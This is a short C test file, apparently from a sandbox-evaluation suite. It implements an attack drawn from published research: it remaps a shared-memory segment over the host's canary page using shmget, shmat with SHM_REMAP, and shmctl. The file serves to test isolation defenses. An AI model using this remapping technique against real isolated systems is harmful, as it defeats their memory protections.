/* Tries: to attach shared memory over a page of the host's
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); Cerberus (Voulimeneas et al.,
 *   EuroSys 2022)
 * Observed: A canary that is gone.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    long id = kernel3(SYS_shmget, 0, 4096, 01600);
    kernel3(SYS_shmat, (uint64_t)id, at->canary_page, 040000); /* SHM_REMAP */
    kernel3(SYS_shmctl, (uint64_t)id, 0, 0);
    return 0;
}
